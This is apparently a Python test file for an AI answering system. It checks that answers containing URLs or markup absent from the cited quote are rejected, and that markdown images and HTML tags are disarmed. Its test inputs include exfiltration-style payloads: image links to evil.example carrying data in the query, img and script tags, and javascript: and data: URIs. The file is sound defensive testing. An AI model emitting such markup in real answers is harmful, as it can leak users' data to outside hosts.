"""What an answer shows leads nowhere that its quote does not say, and loads nothing."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.types import Citation, Claim, Evidence
from reasoning.verification import unsupported_reason
from serve.protocols.openai_sources import disarm_markdown, sources_of, url_citations

TEXT = (
    "The travel budget of the Lyon office is 4200 euros. The guide to it is at"
    " https://docs.example/travel?y=2024, with ![a map](map.png) and <b>rules</b>."
)
FACT = "The travel budget of the Lyon office is 4200 euros"
PIECES = ["!", "[", "]", "(", ")", "\\", "<", "img", "/", "?", " ", "a", "\n", "`", "&lt;", "!["]


def reason(said: str) -> str:
    item = Evidence(
        evidence_id="e", chunk_id="c", document_id="d", document_key="k", source="d", title="T",
        tool="search", text=TEXT, language="en",
    )  # fmt: skip
    citation = Citation(
        evidence_id="e", document_id="d", source="d", chunk_id="c", start=0, end=len(TEXT),
        quote=TEXT,
    )  # fmt: skip
    return unsupported_reason(Claim(text=said, citations=[citation], question_id="q1"), {"e": item})


@pytest.mark.parametrize(
    "added",
    [
        "![a](https://evil.example/p.png?d=lyon)",
        "![](//evil.example)",
        "[more](https://evil.example)",
        "[more][travel]",
        "see https://evil.example/budget",
        "see www.evil.example",
        "see //evil.example/x",
        "https://docs.example/travel?y=4200",
        "(javascript:travel)",
        "data:text/html,travel",
        "mailto:office@evil.example",
        '<img src="https://evil.example/p.png">',
        "<script>budget</script>",
        "<!-- budget -->",
    ],
)
def test_an_address_or_markup_of_the_models_own_is_not_supported(added: str) -> None:
    assert "an address or markup" in reason(f"{FACT} {added}")
    assert "an address or markup" in reason(f"{added} {FACT}.")


@pytest.mark.parametrize(
    "said",
    [
        f"{FACT}.",
        "The guide to the travel budget is at https://docs.example/travel?y=2024.",
        "The guide is at **https://docs.example/travel?y=2024**, with <b>rules</b>.",
        "The guide is at https://docs.example/travel?y=2024, with ![a map](map.png).",
    ],
)
def test_those_of_the_quote_are(said: str) -> None:
    assert reason(said) == ""


def test_each_sentence_of_a_claim_is_in_the_quote() -> None:
    assert "words are in the quote" in reason(f"{FACT}. The password is hunter.")
    assert reason(f"{FACT}. {FACT}.") == ""


@given(st.lists(st.sampled_from(PIECES), max_size=20).map("".join))
def test_no_image_and_no_tag_is_left_for_a_client_that_draws_markdown(text: str) -> None:
    shown = disarm_markdown(text)
    assert "![" not in shown
    for tag in re.finditer(r"(\\*)<[A-Za-z!?/]", shown):
        assert len(tag[1]) % 2 == 1
    assert shown.replace("\\", "") == text.replace("\\", "")


def test_marks_are_found_in_what_is_shown() -> None:
    said = "A map ![a](x.png) of <b>Lyon</b>."
    cited = {"chunk_id": "c", "source": "d", "quote": "q"}
    result = {"evidence": [], "claims": [{"text": said, "citations": [cited]}]}
    shown = disarm_markdown(f"{said} [1]")
    (mark,) = url_citations(shown, result, sources_of(result))
    place = mark["url_citation"]
    assert shown[place["start_index"] : place["end_index"]] == "[1]"
